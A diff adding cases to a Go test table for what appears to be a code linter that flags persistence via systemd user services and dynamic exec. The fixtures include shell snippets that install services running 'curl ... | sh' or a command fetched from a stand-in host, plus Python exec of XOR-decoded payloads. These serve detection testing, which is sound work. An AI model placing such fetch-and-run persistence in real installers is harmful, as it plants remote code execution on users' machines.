@@ -19,6 +19,9 @@ var codeCases = []lintCase{
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nrepo=$1\nu=$(cat <<U\n[Service]\nExecStart=/usr/bin/restic -r ${repo} backup\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "note", 8},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nu=$(cat <<U\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example/a | sh'\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "warning", 7},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\ncp \"$1\" \"$d/b.service\"\n", "warning", 2},
+	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=${2:?}\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "note", 3},
+	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(cat notes.dat)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "warning", 3},
+	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(curl -s https://x.example/c)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c \"$cmd\"\nU\n", "warning", 3},
 	// running the result of a call the analysis does not know (an XOR decoding, an input) is unresolved
 	{"d.py", "dynamic-exec", "import base64\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "warning", 3},
 	{"d.py", "dynamic-exec", "code = input()\nexec(code)\n", "warning", 2},
